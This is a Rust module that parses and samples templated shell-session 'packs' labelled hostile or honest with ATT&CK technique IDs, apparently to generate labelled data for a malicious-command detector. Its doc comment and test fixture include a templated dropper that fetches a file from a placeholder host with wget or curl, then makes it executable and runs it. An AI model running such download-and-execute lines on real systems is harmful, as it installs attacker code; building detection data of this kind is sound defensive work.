//! Sessions, scripts and lines of our own, in blocks with holes (`packs/*.txt`).
//!
//! A block is one session or script, or one line alone:
//!
//! ```text
//! @hostile dropper T1105
//! cd {t} || cd /var/tmp
//! «wget -q¦curl -sO» http://{a}/{w}
//! ? uname -a
//! chmod +x {w}; ./{w}
//! ```
//!
//! `@hostile SUBJECT TECHNIQUE` or `@honest SUBJECT` opens it, an empty line ends it. A line that begins with `? ` is
//! left out half of the time, `«a¦b»` are alternatives, and holes have one value each in the whole block.

use std::collections::BTreeSet;

use super::draw::Draw;

/// One session, script or line, with holes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Block {
    /// Its label.
    pub malicious: bool,
    /// What it is about.
    pub subject: &'static str,
    /// The ATT&CK technique that names it best, of an attack.
    pub technique: Option<&'static str>,
    /// Its lines, in order.
    lines: Vec<&'static str>,
}

/// The blocks of a pack, in order.
///
/// # Errors
///
/// The number of the first line that is not as it should be, and why.
pub fn parse(text: &'static str) -> Result<Vec<Block>, String> {
    let mut blocks: Vec<Block> = Vec::new();
    let mut open = false;
    for (index, line) in text.lines().enumerate() {
        let fail = |why: &str| Err(format!("line {}: {why}", index + 1));
        if line.trim().is_empty() {
            open = false;
        } else if !open {
            match header(line) {
                Some(block) => blocks.push(block),
                None => return fail("wanted `@hostile SUBJECT TECHNIQUE` or `@honest SUBJECT`"),
            }
            open = true;
        } else if line.matches('«').count() != line.matches('»').count() {
            return fail("alternatives are opened and not closed");
        } else if let Some(block) = blocks.last_mut() {
            block.lines.push(line);
        }
    }
    match blocks.iter().find(|block| block.lines.is_empty()) {
        Some(block) => Err(format!("a block about {} has no lines", block.subject)),
        None => Ok(blocks),
    }
}

fn header(line: &'static str) -> Option<Block> {
    let words: Vec<&str> = line.split_whitespace().collect();
    let (malicious, subject, technique) = match words[..] {
        ["@hostile", subject, technique] => (true, subject, Some(technique)),
        ["@honest", subject] => (false, subject, None),
        _ => return None,
    };
    Some(Block {
        malicious,
        subject,
        technique,
        lines: Vec::new(),
    })
}

impl Block {
    /// One drawing of it. At least one line, whatever is optional.
    pub fn draw(&self, draw: &mut Draw) -> Vec<String> {
        let mut kept: Vec<&str> = Vec::with_capacity(self.lines.len());
        for line in &self.lines {
            match line.strip_prefix("? ") {
                None => kept.push(line),
                Some(line) if draw.chance(0.5) => kept.push(line),
                Some(_) => {}
            }
        }
        if kept.is_empty() {
            kept.extend(self.lines.first().map(|line| line.trim_start_matches("? ")));
        }
        let filled = draw.fill(&kept.join("\n"));
        filled.lines().map(str::to_owned).collect()
    }

    /// A stretch of one drawing: what somebody saw who did not see all of it. Only honest work may be cut, for the
    /// telling part of an attack may be anywhere.
    pub fn stretch(&self, most: usize, draw: &mut Draw) -> Vec<String> {
        let mut lines = self.draw(draw);
        if !self.malicious && lines.len() > most {
            let from = draw.below(lines.len() - most + 1);
            lines = lines.split_off(from);
            lines.truncate(most);
        }
        lines
    }

    /// The line, with its holes, of a block that is one line alone.
    pub fn line(&self) -> Option<&'static str> {
        match self.lines[..] {
            [line] => Some(line),
            _ => None,
        }
    }

    /// Whether one of its lines is among these.
    pub fn has_any(&self, lines: &BTreeSet<&str>) -> bool {
        self.lines.iter().any(|line| lines.contains(line))
    }

    /// How many choices it leaves open.
    pub fn choices(&self) -> usize {
        let each = |line: &&str| line.matches('¦').count() + usize::from(line.starts_with("? "));
        self.lines.iter().map(each).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PACK: &str = "@hostile dropper T1105\ncd {t}\n? id\n«wget¦curl» http://{a}/{w}\nsh {w}\n\n\
        @honest clean-up\nrm -rf /tmp/{w}\n";

    #[test]
    fn a_pack_is_blocks_and_each_drawing_is_whole() {
        let blocks = parse(PACK).unwrap();
        assert_eq!(blocks.len(), 2);
        assert_eq!(blocks[0].technique, Some("T1105"));
        assert!(blocks[1].line().is_some() && !blocks[1].malicious);
        assert_eq!(blocks[0].choices(), 2);
        let mut draw = Draw::new(4);
        for _ in 0..50 {
            let lines = blocks[0].draw(&mut draw);
            assert!((3..=4).contains(&lines.len()), "{lines:?}");
            let word = lines.last().unwrap().strip_prefix("sh ").unwrap();
            assert!(
                lines[lines.len() - 2].ends_with(&format!("/{word}")),
                "{lines:?}"
            );
            assert!(!lines.join("").contains(['{', '«', '?']), "{lines:?}");
        }
    }

    #[test]
    fn what_is_no_pack_is_refused_by_line() {
        for (text, line) in [
            ("id\n", "line 1"),
            ("@hostile x\nid\n", "line 1"),
            ("@honest x\nid «a¦b\n", "line 2"),
            ("@honest x\n\n@honest y\nid\n", "about x"),
        ] {
            let why = parse(text).unwrap_err();
            assert!(why.contains(line), "{text}: {why}");
        }
    }

    #[test]
    fn an_attack_is_never_cut() {
        let blocks = parse(PACK).unwrap();
        let mut draw = Draw::new(4);
        assert!(blocks[0].stretch(1, &mut draw).len() >= 3);
    }
}
